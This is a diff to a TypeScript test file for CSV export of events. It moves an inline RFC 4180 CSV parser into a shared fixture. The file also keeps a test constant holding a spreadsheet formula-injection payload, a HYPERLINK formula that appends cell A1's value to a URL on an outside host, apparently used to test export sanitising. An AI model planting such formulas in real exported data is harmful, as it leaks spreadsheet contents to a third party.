@@ -1,28 +1,7 @@
 import { readFileSync } from "node:fs";
 import { expect, test } from "../fixtures";
+import { parseCsv } from "../fixtures/csv";
 import { eventsForTests, importEvents, runSql } from "../fixtures/log";
-
-/** RFC 4180, read by the letter: anything else throws. */
-function parseCsv(text: string): Record<string, string>[] {
-  const records: string[][] = [];
-  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r?\n)/y;
-  let record: string[] = [];
-  while (cell.lastIndex < text.length) {
-    const at = cell.lastIndex;
-    const found = cell.exec(text);
-    if (!found) throw new Error(`Not CSV at ${at}: ${text.slice(at, at + 80)}`);
-    record.push(found[1]?.replaceAll('""', '"') ?? found[2] ?? "");
-    if (found[3] !== ",") {
-      records.push(record);
-      record = [];
-    }
-  }
-  const [header = [], ...rows] = records;
-  return rows.map((row) => {
-    expect(row).toHaveLength(header.length);
-    return Object.fromEntries(header.map((name, index) => [name, row[index] ?? ""]));
-  });
-}
 
 const FORMULA = `=HYPERLINK("http://example.com/?x="&A1,"Click, me")`;
 
